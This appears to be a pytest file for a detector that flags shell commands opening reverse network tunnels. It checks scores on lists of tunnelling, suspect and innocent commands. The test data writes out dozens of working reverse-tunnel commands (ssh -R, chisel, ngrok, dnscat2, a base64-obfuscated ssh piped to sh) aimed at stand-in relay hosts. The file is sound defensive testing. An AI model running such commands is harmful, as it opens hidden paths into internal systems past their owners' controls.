"""Tunnels opened by commands, in every spelling; and commands that only look like it."""

from __future__ import annotations

import pytest

from pipeline.detectors import tunnel_command as detector
from pipeline.shell.script import read
from tests.detectors.verdicts import SCORE_50, SCORE_70, said

OPENED = [
    "ssh -R 2222:localhost:22 u@203.0.113.7",
    "ssh -fNR 2222:localhost:22 u@203.0.113.7",
    "ssh -fNTR2222:localhost:22 u@relay.example",
    "ssh u@relay.example -R 2222:localhost:22",
    "ssh -p 443 u@relay.example -N -R 0.0.0.0:80:10.0.0.5:80 -o ServerAliveInterval=30",
    "ssh -R '[::]:8080:localhost:80' u@relay.example",
    "ssh -R 8080 u@relay.example",
    "ssh -o RemoteForward='2222 localhost:22' u@relay.example",
    "ssh -oRemoteForward=2222:localhost:22 -N relay.example",
    'ssh -o "RemoteForward 2222 localhost:22" -fN relay.example',
    "ssh -R 80:localhost:8000 serveo.net",
    "autossh -M 0 -f -N -R 20002:localhost:8000 -p 443 ops@198.51.100.9",
    "sshpass -p hunter2 ssh -R 2222:localhost:22 u@relay.example",
    "nohup ssh -N -R 2222:localhost:22 u@relay.example >/dev/null 2>&1 &",
    "bash -c 'ssh -fNR 2222:localhost:22 u@relay.example'",
    "A=-R; ssh $A 2222:localhost:22 u@relay.example",
    "echo c3NoIC1mTlIgMjIyMjpsb2NhbGhvc3Q6MjIgdUByZWxheS5leGFtcGxl | base64 -d | sh",
    "plink -batch -R 2222:localhost:22 u@relay.example",
    "cat >> ~/.ssh/config <<E\nHost edge\n  HostName relay.example\n  RemoteForward 2222 localhost:22\nE",
    "printf 'Host edge\\n RemoteForward 2222 localhost:22\\n' >> ~/.ssh/config",
    "./chisel client https://relay.example R:2222:localhost:22",
    "chisel client relay.example:443 R:socks",
    "./frpc -c frpc.toml",
    "frpc tcp -n x --server_addr relay.example --local_port 22 --remote_port 6000",
    "ngrok tcp 22",
    "./ngrok http 8080 --log stdout",
    "cloudflared tunnel --url http://localhost:8080",
    "cloudflared tunnel run --token abcdef",
    "bore local 22 --to bore.example",
    "npx localtunnel --port 8080",
    "lt --port 8080",
    "docker run -d cloudflare/cloudflared:latest tunnel run",
    "iodine -f -P x t.example",
    "dnscat2 --dns server=203.0.113.1,port=53",
    "ptunnel-ng -p relay.example -l 8000 -r 10.0.0.5 -R 22",
    "gs-netcat -s secret -l -i",
    "python3 -c \"import paramiko; t=paramiko.Transport(('relay.example',22)); t.request_port_forward('',2222)\"",
    "socat TCP:relay.example:443 TCP:localhost:22",
]

SUSPECT = [
    "ssh -D 1080 u@relay.example",
    "ssh -w 0:0 root@relay.example",
    "ssh -fN edge",
    "chisel server --reverse --port 8080",
    "socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80",
    "mkfifo p; nc -l 8080 < p | nc 10.0.0.5 80 > p",
    "ncat -l 8080 --sh-exec 'ncat 10.0.0.5 80'",
    "tailscale up --authkey tskey-abc",
    "zerotier-cli join 8056c2e21c000001",
    "wg-quick up wg0",
    "sshuttle -r u@relay.example 10.0.0.0/8",
    "microsocks -p 1080",
    "ssh -R 2222:localhost:22 u@10.0.0.8",
]

INNOCENT = [
    "grep -R ssh .",
    "man ssh",
    "echo 'ssh -R 2222:localhost:22 u@relay.example'",
    "# ssh -R 2222:localhost:22 u@relay.example",
    "cat > docs/tunnels.md <<E\nssh -fNR 2222:localhost:22 u@relay.example\n\nRemoteForward 2222 localhost:22\nE",
    "git commit -m 'document ssh -R and chisel client R:22'",
    "ssh dev@devbox.example",
    "ssh -o ServerAliveInterval=60 dev@devbox.example 'tail -n 2 /etc/hostname'",
    "ssh -V",
    "scp -R file u@h:",
    "rsync -aR src/ u@h:/srv",
    "git clone git@git.example:team/app.git",
    "GIT_SSH_COMMAND='ssh -p 443' git fetch",
    "ngrok --version",
    "cloudflared --help",
    "pip install chisel-docs",
    "socat - UNIX-CONNECT:/run/app.sock",
    "nc -z localhost 5432",
    "ls -R chisel",
    "ip addr show",
    "tailscale status",
    "docker run -p 8080:80 nginx",
]


@pytest.mark.parametrize("command", OPENED)
def test_a_tunnel_is_found_in_every_spelling(command: str) -> None:
    assert said(detector, command) >= SCORE_70


@pytest.mark.parametrize("command", SUSPECT)
def test_what_people_at_work_do_too_stays_below_an_alert(command: str) -> None:
    assert 1.0 <= said(detector, command) < SCORE_50


@pytest.mark.parametrize("command", INNOCENT)
def test_innocent(command: str) -> None:
    assert said(detector, command) == 0.0


@pytest.mark.parametrize(
    "command", ["ssh -fN -L 8888:notebook.internal:8888 dev@bastion.internal", "pip install pyngrok", "ssh -N -M u@h"]
)
def test_weak(command: str) -> None:
    assert 0.0 < said(detector, command) <= 2.0


def test_the_words_name_host_and_port_and_no_secret() -> None:
    finding = detector.judge(read("sshpass -p hunter2 ssh -R 0.0.0.0:2222:localhost:22 me@203.0.113.7 -p 443"))
    assert finding is not None
    assert finding.words == "opens port 2222 of 203.0.113.7 into localhost:22"
    assert finding.technique == "T1572"


def test_a_tunnel_on_another_host_counts_too() -> None:
    assert said(detector, "ssh u@10.0.0.8 'ssh -fNR 2222:localhost:22 u@relay.example'") >= SCORE_70
